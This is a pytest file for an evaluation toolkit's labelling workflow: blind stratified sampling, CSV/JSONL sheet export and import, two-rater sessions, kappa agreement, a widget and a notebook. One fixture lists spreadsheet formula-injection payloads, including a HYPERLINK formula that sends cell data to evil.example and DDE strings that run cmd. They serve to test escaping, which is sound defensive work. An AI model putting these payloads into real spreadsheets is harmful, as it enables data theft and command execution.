"""The labelling workflow: a blind, stratified, seeded sample exported as a sheet; a scripted
labelling session by two raters (kept apart, resumable); calibration and the raters' agreement
on their labels; the widget's buttons and keys; the labelling notebook under papermill.

The store is synthetic (``synthetic_runs``): 50 judged cases in four strata, every judge score
carrying a reason no sheet, session or notebook may show.
"""

from __future__ import annotations

import ast
import csv
import getpass
import html
import json
from dataclasses import replace
from pathlib import Path

import nbformat
import numpy as np
import polars as pl
import pytest
from sklearn.metrics import cohen_kappa_score
from synthetic_runs import C, make_run, write_store

from evalkit.cli import main
from evalkit.judges.calibration import calibrate
from evalkit.judges.labelling import (
    SHEET_ORDER,
    LabellingError,
    allocate,
    human_agreement,
    sample_outputs,
)
from evalkit.judges.labelling_session import open_labelling
from evalkit.judges.labelling_widget import card_html, press, show_labelling
from evalkit.judges.labels import output_hash, restore_cell
from evalkit.notebooks import execute_notebook, notebook_path
from evalkit.scorers.judge_client import load_rubric
from evalkit.store import open_store

RUBRIC = """# Reply tone

Score levels:
1: Rude or useless.
2: Unhelpful.
3: Adequate but cold.
4: Polite and relevant.
5: Polite, specific and complete.
"""
#: Every judge reason carries this, so a leak of the judge's verdict is one substring away.
LEAK = "JUDGE-VERDICT"
STRATA = {"billing": 12, "policy": 6, "general": 30}


def _judge_level(case_id: str) -> int:
    return 1 + int(output_hash(case_id)[:6], 16) % 5


@pytest.fixture
def store_env(tmp_path: Path) -> tuple[Path, Path]:
    """(db, rubric file): run ``base`` of 50 cases (12 billing, 6 policy, 30 general, 2 with
    no tag) judged with corpus/rubrics/tone.md; one judge call failed (general-029)."""
    corpus = tmp_path / "corpus"
    (corpus / "rubrics").mkdir(parents=True)
    rubric = corpus / "rubrics" / "tone.md"
    rubric.write_text(RUBRIC)
    (corpus / "evalkit.yaml").write_text("suite: demo\n")
    cases = [
        C(f"{tag}-{i:03d}", "p", [tag, "smoke"]) for tag, n in STRATA.items() for i in range(n)
    ]
    cases += [C("loose-000", "p"), C("loose-001", "p")]
    run = make_run("run-1", cases, label="base")
    # outputs with newlines, quotes and commas: the CSV sheet must carry them whole
    outputs = run.outputs.with_columns(
        text=pl.col("text") + pl.lit('\nThanks, and "sorry" for the wait.\n\nAna')
    )
    digest = load_rubric(rubric).hash
    judge = []
    for c in cases:
        failed = c.id == "general-029"
        level = _judge_level(c.id)
        details = {"judge_model": "m-1", "rubric": "rubrics/tone.md", "rubric_hash": digest}
        judge.append({
            "run_id": "run-1", "case_id": c.id, "replay": 0, "scorer": "judge",
            "scorer_index": 2, "tier": 3, "score": (level - 1) / 4, "passed": level >= 4,
            "error": failed, "reason": f"{LEAK} {level}/5: the judge's reasoning",
            "details": json.dumps(details | ({} if failed else {"judge_score": level})),
        })  # fmt: skip
    scores = pl.concat([run.scores, pl.DataFrame(judge)], how="diagonal_relaxed")
    db = tmp_path / "e.duckdb"
    write_store(db, [replace(run, outputs=outputs, scores=scores)])
    return db, rubric


def _stratum(case_id: str) -> str:
    return case_id.split("-")[0] if not case_id.startswith("loose") else "(untagged)"


# --------------------------------------------------------------------------- sampling


def test_allocate_is_proportional_capped_and_leaves_no_stratum_out() -> None:
    rng = np.random.default_rng(5)
    for _ in range(300):
        sizes = {f"s{i}": int(rng.integers(0, 60)) for i in range(int(rng.integers(1, 8)))}
        n = int(rng.integers(1, 200))
        share = allocate(sizes, n)
        live = {k: v for k, v in sizes.items() if v}
        total = sum(live.values())
        assert set(share) == set(live)
        assert sum(share.values()) == min(n, total)
        assert all(0 <= share[k] <= live[k] for k in live)
        if min(n, total) >= len(live):
            assert all(share[k] >= 1 for k in live)
        if n <= total and all(n * v / total >= 1 for v in live.values()):
            assert all(abs(share[k] - n * v / total) < 1 for k, v in live.items())
    assert allocate({"a": 3, "b": 2}, 100) == {"a": 3, "b": 2}


def test_the_sample_is_stratified_reproducible_and_holds_no_judge_verdict(store_env) -> None:
    db, rubric = store_env
    with open_store(db, read_only=True) as store:
        first = sample_outputs(store, "base", sample=20, seed=7, roots=[rubric.parents[1]])
        again = sample_outputs(store, "base", sample=20, seed=7, rubric=rubric)
        other = sample_outputs(store, "base", sample=20, seed=8, rubric=rubric)
        everything = sample_outputs(store, "base", sample=500, stratify="none", rubric=rubric)
    assert first.items == again.items and first.rubric.text == RUBRIC
    assert [i.case_id for i in first.items] != [i.case_id for i in other.items]
    available = {"billing": 12, "policy": 6, "general": 29, "(untagged)": 2}  # general-029 erred
    assert first.population == 49 and {s.name: s.available for s in first.strata} == available
    want = allocate(available, 20)
    counts = {s: sum(_stratum(i.case_id) == s for i in first.items) for s in available}
    assert counts == want == {s.name: s.sampled for s in first.strata}
    assert len({i.case_id for i in first.items}) == 20
    assert [i.position for i in first.items] == list(range(1, 21))
    assert len(everything.items) == 49 and "general-029" not in {
        i.case_id for i in everything.items
    }
    for item in first.items:
        assert item.output.startswith(f"run-1 says p to {item.case_id}\n")
        assert item.output_hash == output_hash(item.output)
        assert item.input == f"USER: question {item.case_id}"
        assert LEAK not in repr(item)
    # the order is a shuffle, not sorted by id, stratum, or the judge's score
    ids = [i.case_id for i in first.items]
    assert ids != sorted(ids)
    assert [_judge_level(c) for c in ids] != sorted(_judge_level(c) for c in ids)


def test_sampling_refuses_what_it_cannot_sample(store_env, tmp_path: Path) -> None:
    db, _ = store_env
    edited = tmp_path / "edited.md"
    edited.write_text(RUBRIC + "6: Perfect.\n")
    with open_store(db, read_only=True) as store:
        cases = [
            ({"scorer": "tone"}, "no decided 'tone' judge scores"),
            ({"sample": 0}, "expected a positive number"),
            ({"stratify": "slice"}, "expected one of tag, criticality, none"),
            ({"rubric": edited}, "with rubric"),
            ({"roots": [tmp_path / "nowhere"]}, "is not at"),
        ]
        for kwargs, message in cases:
            with pytest.raises(LabellingError, match=message):
                sample_outputs(store, "base", **kwargs)
        (tmp_path / "elsewhere" / "rubrics").mkdir(parents=True)
        (tmp_path / "elsewhere" / "rubrics" / "tone.md").write_text(RUBRIC.replace("Rude", "Rough"))
        with pytest.raises(LabellingError, match="edited after the run was judged"):
            sample_outputs(store, "base", roots=[tmp_path / "elsewhere"])


# --------------------------------------------------------------------------- the sheet


def _export(db: Path, rubric: Path, out: Path, *extra: str) -> int:
    config = rubric.parents[1] / "evalkit.yaml"
    args = ["labels", "export", "base", "--db", str(db), "--sample", "20", "--out", str(out)]
    return main([*args, "--config", str(config), *extra])


def test_export_writes_the_sampled_rows_blind_in_csv_and_jsonl(
    store_env, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db, rubric = store_env
    csv_path, jsonl_path, again = tmp_path / "s.csv", tmp_path / "s.jsonl", tmp_path / "again.csv"
    for path in (csv_path, jsonl_path, again):
        assert _export(db, rubric, path, "--seed", "7") == 0
    printed = capsys.readouterr().out
    assert "wrote 20 of 49 judged outputs of run run-1" in printed
    assert "calibration wants 100 or more" in printed and "labels import" in printed
    assert csv_path.read_bytes() == again.read_bytes()  # the same seed, the same sheet
    for path in (csv_path, jsonl_path):
        text = path.read_text()
        assert LEAK not in text and "judge_score" not in text and "m-1" not in text
    sheet = pl.read_csv(csv_path)
    assert tuple(sheet.columns) == SHEET_ORDER
    assert pl.read_ndjson(jsonl_path).select(SHEET_ORDER).equals(sheet.select(SHEET_ORDER))
    with open_store(db, read_only=True) as store:
        sample = sample_outputs(store, "base", sample=20, seed=7, rubric=rubric)
    assert sheet["case_id"].to_list() == [i.case_id for i in sample.items]
    assert sheet["output"].to_list() == [i.output for i in sample.items]  # newlines and quotes
    assert sheet["output_hash"].to_list() == [output_hash(t) for t in sheet["output"]]
    assert set(sheet["rubric"]) == {RUBRIC} and set(sheet["scorer"]) == {"judge"}
    assert sheet.select("rater", "label", "note").null_count().row(0) == (20, 20, 20)
    assert _export(db, rubric, tmp_path / "s.txt") == 2
    assert "a .csv or .jsonl file" in capsys.readouterr().err


def test_a_filled_sheet_imports_skipping_the_rows_left_blank(store_env, tmp_path: Path) -> None:
    db, rubric = store_env
    path = tmp_path / "ana.csv"
    assert _export(db, rubric, path, "--rater", "ana") == 0
    sheet = pl.read_csv(path)
    filled = sheet.with_columns(
        label=pl.when(pl.col("item") <= 12).then(pl.col("case_id").map_elements(
            _judge_level, return_dtype=pl.Int64))
    )  # fmt: skip
    filled.write_csv(path)
    assert main(["labels", "import", str(path), "--db", str(db), "--run", "base"]) == 0
    with open_store(db, read_only=True) as store:
        labels = store.human_labels("judge")
    assert labels.height == 12 and set(labels["rater"]) == {"ana"}
    assert set(labels["output_hash"]) == set(filled.filter(pl.col("item") <= 12)["output_hash"])


#: Model outputs (and case ids, and a rater) that a spreadsheet would run as a formula.
HOSTILE = {
    "=cmd": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+plus": "+1+cmd|' /C calc'!A0",
    "-minus": "-2+3",
    "@at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already quoted",
    "plain": 'Refund issued, "thanks".',
}


def test_a_csv_sheet_holds_no_formula_and_imports_back_exactly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rubric = tmp_path / "corpus" / "rubrics" / "tone.md"
    rubric.parent.mkdir(parents=True)
    rubric.write_text(RUBRIC)
    (tmp_path / "corpus" / "evalkit.yaml").write_text("suite: demo\n")
    run = make_run("run-1", [C(case_id, "p", ["=SUM(A1)"]) for case_id in HOSTILE], label="base")
    outputs = run.outputs.with_columns(text=pl.col("case_id").replace_strict(HOSTILE))
    digest = load_rubric(rubric).hash
    details = json.dumps({"rubric": "rubrics/tone.md", "rubric_hash": digest, "judge_score": 4})
    judge = pl.DataFrame([
        {"run_id": "run-1", "case_id": c, "replay": 0, "scorer": "judge", "scorer_index": 2,
         "tier": 3, "score": 0.75, "passed": True, "error": False, "reason": "ok",
         "details": details}
        for c in HOSTILE
    ])  # fmt: skip
    scores = pl.concat([run.scores, judge], how="diagonal_relaxed")
    db = tmp_path / "e.duckdb"
    write_store(db, [replace(run, outputs=outputs, scores=scores)])
    sheet, raw = tmp_path / "s.csv", tmp_path / "s.jsonl"
    for out in (sheet, raw):
        assert _export(db, rubric, out, "--rater", "=ana") == 0
    capsys.readouterr()

    rows = list(csv.reader(sheet.open(newline="")))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == 1 + len(HOSTILE)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    # restoring each cell gives back exactly what the unescaped JSONL sheet holds
    header, *body = rows
    restored = [dict(zip(header, map(restore_cell, row), strict=True)) for row in body]
    original = [json.loads(line) for line in raw.read_text().splitlines()]
    for got, want in zip(restored, original, strict=True):
        assert got == {k: "" if v is None else str(v) for k, v in want.items()}
    assert {r["output"] for r in restored} == set(HOSTILE.values())

    # a rater fills in the labels in the sheet as exported; import names the original values
    filled = [header, *[[*row[:9], "4", row[10]] for row in body]]
    with sheet.open("w", newline="") as handle:
        csv.writer(handle).writerows(filled)
    assert main(["labels", "import", str(sheet), "--db", str(db), "--run", "base"]) == 0
    with open_store(db, read_only=True) as store:
        labels = store.human_labels("judge")
    assert set(labels["case_id"]) == set(HOSTILE) and set(labels["rater"]) == {"=ana"}
    assert set(labels["output_hash"]) == {output_hash(t) for t in HOSTILE.values()}


# --------------------------------------------------------------------------- the session


def _ben(level: int, position: int) -> int:
    """Ben agrees with the judge's level except on every third item."""
    return level if position % 3 else min(level + 1, 5)


def test_two_raters_label_apart_resume_and_calibrate(store_env) -> None:
    db, rubric = store_env
    kwargs = {"sample": 20, "seed": 3, "rubric": rubric}
    ana, ben = (
        open_labelling(db, "base", "ana", **kwargs),
        open_labelling(db, "base", "ben", **kwargs),
    )
    assert [i.output_hash for i in ana.sample.items] == [i.output_hash for i in ben.sample.items]
    assert str(ana.progress) == "0 of 20 labelled, on item 1"
    for _ in range(5):  # interleaved, as two kernels would
        ana.label(_judge_level(ana.current().case_id), note="checked the refund")
        ben.label(_ben(_judge_level(ben.current().case_id), ben.current().position))
    skipped = ana.current()
    assert ana.skip().position == skipped.position + 1
    ana.label(_judge_level(ana.current().case_id))
    assert ana.back().position == 7 and ana.label_of(ana.current()) is not None
    assert ana.back().position == 6 and ana.label_of(ana.current()) is None  # the skipped one
    assert (ana.progress.labelled, ben.progress.labelled) == (6, 5)
    assert len(ana.notes) == 5 and ben.notes == {}
    # reopened: each rater resumes at their own first unlabelled item
    ana, ben = (
        open_labelling(db, "base", "ana", **kwargs),
        open_labelling(db, "base", "ben", **kwargs),
    )
    assert str(ana.progress) == "6 of 20 labelled, on item 6"
    assert str(ben.progress) == "5 of 20 labelled, on item 6"
    assert set(ana.labels) != set(ben.labels)  # ana has item 7, ben does not
    while not ana.done:
        ana.label(_judge_level(ana.current().case_id))
    while not ben.done:
        ben.label(_ben(_judge_level(ben.current().case_id), ben.current().position))
    assert str(ana.progress) == "20 of 20 labelled: done" and ana.current() is None
    with pytest.raises(LabellingError, match="labelled all 20"):
        ana.label(3)
    with open_store(db, read_only=True) as store:
        stored = store.human_labels("judge")
    assert stored.group_by("rater").len().sort("rater").rows() == [("ana", 20), ("ben", 20)]
    assert set(stored["source"]) == {"labelling:run-1"}
    # calibrate works on them: ana agrees with the judge, ben ties her on every third item
    with open_store(db, write=True) as store:
        result = calibrate(store, "base", rubric=rubric, iters=200)
    positions = {i.output_hash: i.position for i in ana.sample.items}
    agreeing = sum(ana.labels[h] == ben.labels[h] for h in positions)
    assert result.record.n == agreeing and result.n_tied == 20 - agreeing
    assert result.summary.accuracy == 1.0  # the majority is ana's label, the judge's level
    assert {"ana", "ben"} <= set(result.record.figures["raters"])


def test_inter_annotator_agreement_is_sklearns_cohen_kappa(store_env) -> None:
    db, rubric = store_env
    rng = np.random.default_rng(11)
    sessions = [open_labelling(db, "base", r, sample=30, rubric=rubric) for r in ("ana", "ben")]
    for session in sessions:
        while not session.done:
            level = _judge_level(session.current().case_id)
            noisy = int(np.clip(level + rng.integers(-1, 2) * (rng.random() < 0.4), 1, 5))
            session.label(noisy)
    with open_store(db, read_only=True) as store:
        result = human_agreement(store.human_labels())
    hashes = [i.output_hash for i in sessions[0].sample.items]
    a, b = ([s.labels[h] for h in hashes] for s in sessions)
    row = result.pairwise.row(0, named=True)
    assert (row["rater_a"], row["rater_b"], row["n"]) == ("ana", "ben", 30)
    assert row["kappa"] == pytest.approx(cohen_kappa_score(a, b), abs=1e-12)
    assert 0 < row["kappa"] < 1 and result.n_raters == 2 and result.n_items == 30
    with pytest.raises(ValueError, match="two raters"):
        human_agreement(store_labels_of(db, "ana"))


def test_agreement_on_a_run_pins_case_level_labels_and_leaves_other_outputs_out(
    store_env, tmp_path: Path
) -> None:
    db, rubric = store_env
    ana = open_labelling(db, "base", "ana", sample=10, rubric=rubric)
    while not ana.done:
        ana.label(_judge_level(ana.current().case_id))
    items = ana.sample.items
    # cy labels by case id (a sheet of her own, imported without --run), one of them twice:
    # by case and pinned by hash, the pinned one counting; and an output of no run of ours
    rows = [f"{i.case_id},,cy,{_judge_level(i.case_id) % 5 + 1}" for i in items[:6]]
    rows += [f",{items[0].output_hash},cy,{_judge_level(items[0].case_id)}"]
    rows += [f",{output_hash('another run')},cy,3", f",{output_hash('another run')},ana,3"]
    path = tmp_path / "cy.csv"
    path.write_text("case_id,output_hash,rater,label\n" + "\n".join(rows) + "\n")
    assert main(["labels", "import", str(path), "--db", str(db)]) == 0
    with open_store(db, read_only=True) as store:
        labels, outputs = store.human_labels(), store.outputs("run-1")
    result = human_agreement(labels, outputs)
    row = result.pairwise.row(0, named=True)
    assert (row["rater_a"], row["rater_b"], row["n"], result.n_items) == ("ana", "cy", 6, 10)
    a = [_judge_level(i.case_id) for i in items[:6]]
    b = [a[0]] + [level % 5 + 1 for level in a[1:]]
    assert row["kappa"] == pytest.approx(cohen_kappa_score(a, b), abs=1e-12)
    unpinned = human_agreement(labels).pairwise.row(0, named=True)
    assert unpinned["n"] == 2  # by hash only: item 1, and the other run's output


def store_labels_of(db: Path, rater: str) -> pl.DataFrame:
    with open_store(db, read_only=True) as store:
        return store.human_labels().filter(pl.col("rater") == rater)


def test_the_session_refuses_bad_labels_and_raters(store_env) -> None:
    db, rubric = store_env
    session = open_labelling(db, "base", "ana", sample=5, rubric=rubric)
    for bad in (0, 6, "great", 3.5, None):
        with pytest.raises(LabellingError, match="not one of the rubric's levels"):
            session.label(bad)  # type: ignore[arg-type]
    assert session.progress.labelled == 0 and store_labels_of(db, "ana").is_empty()
    session.label("4")
    assert store_labels_of(db, "ana")["label"].to_list() == [4]
    for rater, message in (("  ", "rater is empty"), ("judge:m-1", "mean a model judge")):
        with pytest.raises(LabellingError, match=message):
            open_labelling(db, "base", rater, sample=5, rubric=rubric)
    binary = open_labelling(db, "base", "cy", sample=5, rubric=rubric, levels=(0, 1))
    binary.label("pass")
    assert store_labels_of(db, "cy")["label"].to_list() == [1]


# --------------------------------------------------------------------------- the widget


def test_the_card_shows_the_item_and_rubric_never_the_judge(store_env) -> None:
    db, rubric = store_env
    session = open_labelling(db, "base", "ana", sample=4, rubric=rubric)
    item = session.current()
    card = card_html(session)
    assert html.escape(item.output) in card and html.escape("4: Polite and relevant.") in card
    assert "0 of 4 labelled, on item 1" in card and "keys: 1-5 label, s skip, b back" in card
    assert LEAK not in card and "m-1" not in card
    assert press(session, "x").startswith("key 'x' does nothing")
    assert press(session, "4") == "stored 4 for item 1 (1 of 4 labelled, on item 2)"
    assert press(session, "s") == "skipped item 2" and press(session, "b") == "back one item"
    assert "your label" not in card_html(session)  # item 2 was skipped, not labelled
    assert press(session, "b") == "back one item" and "your label: <b>4</b>" in card_html(session)


def test_the_widget_is_buttons_and_keys_calling_the_session(store_env) -> None:
    db, rubric = store_env
    session = open_labelling(db, "base", "ana", sample=4, rubric=rubric)
    try:
        import ipywidgets  # noqa: F401
    except ImportError:  # without the notebook extra: a static card that says what to do
        view = show_labelling(session)
        assert "needs ipywidgets" in view._repr_html_() and "session.label(4)" in view._repr_html_()
        return
    view = show_labelling(session)
    assert list(view.buttons) == ["1", "2", "3", "4", "5", "s", "b"]
    view.note.value = "polite but vague"
    view.buttons["4"].click()
    assert view.status.value.startswith("stored 4 for item 1") and view.note.value == ""
    assert session.notes == {session.sample.items[0].output_hash: "polite but vague"}
    view.keys.value = "2"  # typed into the keys box
    assert view.keys.value == "" and session.progress.labelled == 2
    view.buttons["s"].click()
    view.keys.value = "b"
    assert view.card.value == card_html(session) and "on item 3" in view.card.value
    assert store_labels_of(db, "ana").sort("label")["label"].to_list() == [2, 4]


# --------------------------------------------------------------------------- the notebook


def _shown(node: object) -> str:
    """Every text in an executed notebook's JSON, a multi-line source or output joined whole."""
    if isinstance(node, str):
        return node
    if isinstance(node, list) and all(isinstance(x, str) for x in node):
        return "".join(node)
    values = node.values() if isinstance(node, dict) else node if isinstance(node, list) else []
    return "\n".join(_shown(v) for v in values)


def test_the_labelling_notebook_is_clean_and_parameterized() -> None:
    nb = nbformat.read(notebook_path("labelling.ipynb"), as_version=4)
    nbformat.validate(nb)
    code = [c for c in nb.cells if c.cell_type == "code"]
    assert all(c.outputs == [] and c.execution_count is None for c in code)
    assert code[0].metadata.get("tags") == ["parameters"]
    names = set()
    for stmt in ast.parse(code[0].source).body:
        assert isinstance(stmt, ast.Assign) and stmt.targets[0].id.isupper()
        ast.literal_eval(stmt.value)
        names.add(stmt.targets[0].id)
    assert {"DB_PATH", "RUN", "RATER", "SCORER", "SAMPLE", "SEED"} <= names


def test_the_labelling_notebook_resumes_a_scripted_rater(store_env, tmp_path: Path) -> None:
    db, _ = store_env
    session = open_labelling(db, "base", "ana", sample=8, seed=2, roots=[tmp_path / "corpus"])
    for _ in range(3):
        session.label(_judge_level(session.current().case_id))
    expected = session.current()
    params = {"DB_PATH": str(db), "RUN": "base", "RATER": "ana", "SCORER": "judge",
              "SAMPLE": 8, "SEED": 2, "STRATIFY": "tag", "RUBRIC": ""}  # fmt: skip
    # run in tmp_path/nb: the rubric the scores name is found under ../corpus, as from notebooks/
    out, ename, message = execute_notebook("labelling.ipynb", tmp_path / "nb" / "l.ipynb", params)
    assert ename is None, message
    text = _shown(json.loads(out.read_text()))  # outputs, and the widgets' state if any
    assert "ana: 3 of 8 labelled, on item 4" in text
    assert html.escape(expected.output) in text  # the card of item 4
    assert LEAK not in text and "judge_score" not in text
    assert store_labels_of(db, "ana").height == 3  # opening the view labels nothing
    # RATER left empty: the login name labels (the notebook runs untouched)
    out, ename, message = execute_notebook(
        "labelling.ipynb", tmp_path / "nb" / "nobody.ipynb", params | {"RATER": ""}
    )
    assert ename is None, message
    assert f"{getpass.getuser()}: 0 of 8 labelled, on item 1" in _shown(json.loads(out.read_text()))
